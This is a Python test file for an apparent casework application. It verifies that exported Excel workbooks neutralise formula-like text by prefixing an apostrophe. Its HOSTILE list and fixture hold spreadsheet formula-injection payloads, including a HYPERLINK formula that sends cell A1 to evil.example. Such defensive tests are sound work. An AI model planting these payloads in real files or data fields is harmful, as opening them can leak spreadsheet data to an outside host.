"""Text that a spreadsheet would read as a formula is written as text in
every workbook the project writes: the case list (API and background job)
and the yearly summary."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from casework.core.models import Member, OrgUnit
from casework.mediation.models import Referral
from casework.reports.xlsx import xlsx_safe_text

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=1+1",
    "  =1+1",
    "\t=1+1",
    "+86 139",
    "-2+3",
    "@SUM(A1:A2)",
    "\tplain",
    "\rplain",
    "＝1+1",
]


def _book(response):
    assert response.status_code == 200, response.content[:300]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(content))


def _text_cells(book) -> list:
    return [
        cell
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def _assert_no_formula(book, expected: list[str]) -> None:
    cells = _text_cells(book)
    assert [c.coordinate for c in cells if c.data_type != "s"] == []
    values = {c.value for c in cells}
    for text in expected:
        assert "'" + text in values, (text, sorted(values))
        assert text not in values


@pytest.fixture
def hostile_names(dataset, county) -> list[str]:
    """Members, the county and a court named like formulas."""
    cases = dataset["cases"]
    members = Member.objects.filter(
        pk__in=[cases[k].member_id for k in ("R1", "R2", "R6", "M3", "M4")]
    ).order_by("pk")
    names = HOSTILE[: len(members)]
    for member, name in zip(members, names, strict=True):
        Member.objects.filter(pk=member.pk).update(name=name)
    OrgUnit.objects.filter(pk=county.pk).update(name='=HYPERLINK("http://evil.example","县")')
    Referral.objects.update(court="@evil")
    Referral.objects.filter(case=cases["D1"]).update(court_case_number=" -1+1")
    return [*names, '=HYPERLINK("http://evil.example","县")', "@evil", " -1+1"]


def test_formula_like_text_is_written_as_text_in_the_api_case_list_workbook(api, hostile_names):
    book = _book(api("supervisor").client.get("/api/cases/?format=xlsx"))
    _assert_no_formula(book, [n for n in hostile_names if n not in ("@evil", " -1+1")])
    book = _book(api("coordinator").client.get("/api/cases/?format=xlsx&program=mediation"))
    _assert_no_formula(book, ["@evil", " -1+1"])


def test_formula_like_text_is_written_as_text_in_a_background_export(api, hostile_names):
    cw = api("supervisor")
    started = cw.post("/api/reports/exports/", {"kind": "cases"})
    assert started.status_code == 202, started.json()
    job = cw.get(f"/api/reports/exports/{started.json()['id']}/").json()
    assert job["status"] == "done", job
    book = _book(cw.client.get(job["download"]))
    _assert_no_formula(book, [n for n in hostile_names if n not in ("@evil", " -1+1")])


def test_formula_like_text_is_written_as_text_in_the_summary_workbook(api, hostile_names, county):
    response = api("supervisor").client.get(f"/api/reports/summary.xlsx?org_unit={county.pk}")
    _assert_no_formula(_book(response), ['=HYPERLINK("http://evil.example","县")'])


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_safe_text_prefixes_what_a_spreadsheet_reads_as_a_formula(text):
    assert xlsx_safe_text(text) == "'" + text


PLAIN = ["覃文平", "RL-2026-000001", "(2026)桂0226民初1号", "", "1-2", "a=b"]


@pytest.mark.parametrize("text", PLAIN)
def test_xlsx_safe_text_leaves_plain_text_alone(text):
    assert xlsx_safe_text(text) == text
